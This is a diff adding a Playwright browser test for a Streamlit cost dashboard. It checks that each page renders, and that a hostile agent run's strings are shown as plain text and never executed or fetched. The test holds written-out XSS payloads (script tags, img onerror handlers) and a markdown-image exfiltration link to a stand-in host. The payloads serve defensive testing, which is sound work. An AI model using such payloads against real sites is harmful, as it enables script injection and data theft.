@@ -1,0 +1,240 @@
+"""The dashboard in a real headless browser (Debian chromium driven by Playwright).
+
+One ``streamlit run`` server (started the way ``turnledger dashboard`` starts
+it) serves a ledger holding the sample traces plus a hostile run whose captured
+prompt, tool result and agent name carry script tags, ``onerror`` handlers and
+markdown-image exfiltration. Every page is opened, checked for exceptions, key
+numbers and charts, and photographed into ``test-output/screenshots/``.
+"""
+
+from __future__ import annotations
+
+import socket
+import time
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dashboard.cli import launch
+from dashboard.ui import count, pct, usd
+from ledger import queries as q
+
+from .conftest import FIVE_TURN, HOSTILE
+from .scenarios import EXFIL_HOST
+
+CHROMIUM = Path("/usr/bin/chromium")
+SHOTS = Path(__file__).resolve().parents[2] / "test-output" / "screenshots"
+ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+        "--disable-component-update", "--disable-sync"]  # fmt: skip
+
+pytestmark = pytest.mark.skipif(
+    not CHROMIUM.exists(),
+    reason="Debian chromium is not installed at /usr/bin/chromium (`make test` installs it; "
+    "or `apt-get install -y chromium`). Never a downloaded browser.",
+)
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@pytest.fixture(scope="module")
+def base_url(extended_db: Path) -> Iterator[str]:
+    port = _free_port()
+    proc = launch(db=extended_db, port=port)
+    url = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                with urllib.request.urlopen(f"{url}/_stcore/health", timeout=1) as r:
+                    if r.status == 200:
+                        break
+            except OSError:
+                if proc.poll() is not None or time.monotonic() > deadline:
+                    raise AssertionError(f"streamlit did not start (exit code {proc.poll()})") from None
+                time.sleep(0.2)
+        yield url
+    finally:
+        proc.terminate()
+        try:
+            proc.wait(timeout=15)
+        except Exception:
+            proc.kill()
+
+
+@pytest.fixture(scope="module")
+def browser_page(base_url: str) -> Iterator[tuple[Any, dict[str, list[Any]]]]:
+    from playwright.sync_api import sync_playwright
+
+    seen: dict[str, list[Any]] = {"requests": [], "dialogs": [], "errors": []}
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
+        context = browser.new_context(viewport={"width": 1500, "height": 1000})
+        context.on("request", lambda r: seen["requests"].append(r.url))
+        page = context.new_page()
+        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
+        page.on("pageerror", lambda e: seen["errors"].append(str(e)))
+        yield page, seen
+        context.close()
+        browser.close()
+
+
+def _settle(page: Any, *texts: str, charts: int = 0) -> None:
+    """Wait until the script run finished, the texts are on the page and the charts are drawn."""
+    page.wait_for_selector("[data-testid='stAppViewContainer']")
+    for text in texts:
+        page.get_by_text(text, exact=False).first.wait_for(timeout=30_000)
+    if charts:
+        page.wait_for_function(
+            f"document.querySelectorAll('.js-plotly-plot .main-svg').length >= {charts}", timeout=30_000
+        )
+    page.wait_for_function("!document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=30_000)
+    page.wait_for_timeout(300)
+
+
+def _shoot(page: Any, name: str) -> None:
+    """A screenshot of the whole page (Streamlit scrolls inside its main block, so grow the viewport)."""
+    SHOTS.mkdir(parents=True, exist_ok=True)
+    height = page.evaluate("document.querySelector('[data-testid=\"stMain\"]').scrollHeight")
+    page.set_viewport_size({"width": 1500, "height": min(max(1000, height + 40), 7000)})
+    page.wait_for_timeout(400)
+    page.screenshot(path=str(SHOTS / f"{name}.png"))
+    page.set_viewport_size({"width": 1500, "height": 1000})
+
+
+def _check(page: Any, *, charts: int) -> None:
+    assert page.locator("[data-testid='stException']").count() == 0, page.locator(
+        "[data-testid='stException']"
+    ).first.inner_text()
+    assert page.locator(".js-plotly-plot").count() == charts
+
+
+def _open(page: Any, title: str) -> None:
+    """Go to a page through the sidebar navigation (same session, no reload)."""
+    page.get_by_test_id("stSidebarNav").get_by_role("link", name=title, exact=True).click()
+
+
+def _find_run(page: Any, trace_id: str) -> None:
+    box = page.get_by_role("textbox", name="Trace id (or its first characters)")
+    box.fill(trace_id)
+    box.press("Enter")
+
+
+def test_every_page_renders_its_numbers_and_charts(base_url, browser_page, extended_db, rows):
+    page, seen = browser_page
+    cost = rows(extended_db, q.cost_per_run()).to_dict("records")[0]
+    loops = rows(extended_db, q.loop_spend()).to_dict("records")[0]
+    typical = rows(extended_db, q.typical_run()).to_dict("records")[0]
+
+    # First request to a fresh server: a deep link, which must go through the app's navigation.
+    page.goto(f"{base_url}/long_tail")
+    _settle(page, f"The {min(20, cost['runs'])} most expensive runs", pct(typical["share_of_spend_from_p95"]), charts=2)
+    links = page.get_by_test_id("stSidebarNav").get_by_role("link").all_inner_texts()
+    assert [text.split("\n")[-1] for text in links] == [
+        "Spend overview", "Long tail", "Run explorer", "Guards", "Budgets & alerts", "Models & prices",
+    ]  # fmt: skip
+    _check(page, charts=2)
+    _shoot(page, "2-long-tail")
+
+    _open(page, "Spend overview")
+    _settle(page, "Where the money goes", usd(cost["total_usd"]), charts=5)
+    for text in (
+        count(cost["runs"]),
+        usd(cost["median_usd"]),
+        usd(cost["p95_usd"]),
+        "broken",
+        "Spend per model, split by price term",
+    ):
+        assert page.get_by_text(text, exact=True).count() >= 1, text
+    _check(page, charts=5)
+    _shoot(page, "1-spend-overview")
+
+    _open(page, "Run explorer")
+    _settle(page, "Find a run")
+    _find_run(page, FIVE_TURN)
+    _settle(page, "Exact context of a turn", "76.5%", "how do I rotate an API key", charts=1)
+    assert page.get_by_text("$0.0997", exact=True).count() >= 1 and page.get_by_text("healthy", exact=True).count() >= 1
+    assert page.get_by_text("kept turn 4's prefix byte-for-byte", exact=False).count() == 1
+    assert f"trace={FIVE_TURN}" in page.url  # the trace id is in the URL: a run can be linked to
+    _check(page, charts=1)
+    _shoot(page, "3-run-explorer")
+
+    _open(page, "Guards")
+    _settle(page, "Loop-detector trips per hour", usd(loops["loop_usd"]), charts=2)
+    _check(page, charts=2)
+    _shoot(page, "4-guards")
+
+    _open(page, "Budgets & alerts")
+    _settle(page, "No budgets yet", "Budget events recorded on runs")
+    _check(page, charts=0)
+    _shoot(page, "5-budgets")
+
+    _open(page, "Models & prices")
+    _settle(page, "1 model(s) have no price", "Prices applied to stored charges")
+    _check(page, charts=0)
+    _shoot(page, "6-models")
+
+    # The sidebar drives the page in the real app (AppTest re-runs only the page script).
+    _open(page, "Spend overview")
+    _settle(page, "Where the money goes", charts=5)
+    page.get_by_test_id("stSidebar").get_by_role("button", name="Refresh", exact=True).click()
+    _settle(page, usd(cost["total_usd"]), charts=5)
+    page.get_by_test_id("stSidebar").get_by_role("combobox", name="Tenant", exact=True).click()
+    page.get_by_role("option", name="globex", exact=True).click()
+    globex = rows(extended_db, q.cost_per_run(q.Filters(tenant="globex"))).to_dict("records")[0]
+    _settle(page, usd(globex["total_usd"]), charts=5)
+    assert page.get_by_test_id("stSidebar").get_by_role("combobox", name="Tenant", exact=True).input_value() == "globex"
+
+    # Auto-refresh re-reads the ledger on its own: the "Last refreshed" time moves without a click.
+    sidebar = page.get_by_test_id("stSidebar")
+    stamp = sidebar.get_by_text("Last refreshed", exact=False)
+    before = stamp.inner_text()
+    sidebar.get_by_text("Auto-refresh", exact=True).click()
+    sidebar.get_by_text("Every (seconds)").wait_for()
+    page.wait_for_function(
+        "t => [...document.querySelectorAll('[data-testid=stSidebar] p')].some("
+        "p => p.innerText.startsWith('Last refreshed') && p.innerText !== t)",
+        arg=before,
+        timeout=20_000,
+    )
+    assert page.locator("[data-testid='stException']").count() == 0
+    assert not seen["errors"], seen["errors"]
+
+
+def test_untrusted_content_is_shown_as_text_never_run_or_fetched(base_url, browser_page):
+    """The hostile run's strings, on the page that shows them most directly.
+
+    The request and dialog recorders run for the whole module: the page tour
+    above (tables, chart labels and filter lists holding the hostile agent
+    name) is covered by the same assertions.
+    """
+    page, seen = browser_page
+    page.goto(f"{base_url}/run_explorer?trace={HOSTILE}")  # a fresh session: no filters left over
+    _settle(page, "Exact context of a turn", "window.__pwned=1;alert(1)")
+    code = page.locator("[data-testid='stCode']", has_text="window.__pwned=1").first
+    text = code.inner_text()
+    # Shown verbatim as text: the tags, the handler and the markdown image are all there as characters.
+    assert "<script>window.__pwned=1;alert(1)</script>" in text
+    assert '<img src=x onerror=\\"window.__pwned=2;alert(2)\\">' in text
+    assert f"![x](http://{EXFIL_HOST}/leak?d=secret)" in text
+    # The agent name with an <img onerror> is in the run picker and the sidebar filter: open the list.
+    assert "evil<img src=x onerror=" in page.get_by_role("combobox", name="Run", exact=True).input_value()
+    page.get_by_test_id("stSidebar").get_by_role("combobox", name="Agent", exact=True).click()
+    page.get_by_role("option", name='evil<img src=x onerror="window.__pwned=4">', exact=True).wait_for()
+    page.keyboard.press("Escape")
+    page.get_by_text("Full diff of the two payloads").click()
+    page.wait_for_timeout(1000)
+    _check(page, charts=1)
+    _shoot(page, "7-untrusted-content")
+
+    assert page.evaluate("typeof window.__pwned") == "undefined"
+    assert seen["dialogs"] == []
+    leaked = [u for u in seen["requests"] if EXFIL_HOST in u or "/leak" in u]
+    assert leaked == []
+    assert any("/_stcore/" in u or "/static/" in u for u in seen["requests"]), "requests are being recorded"
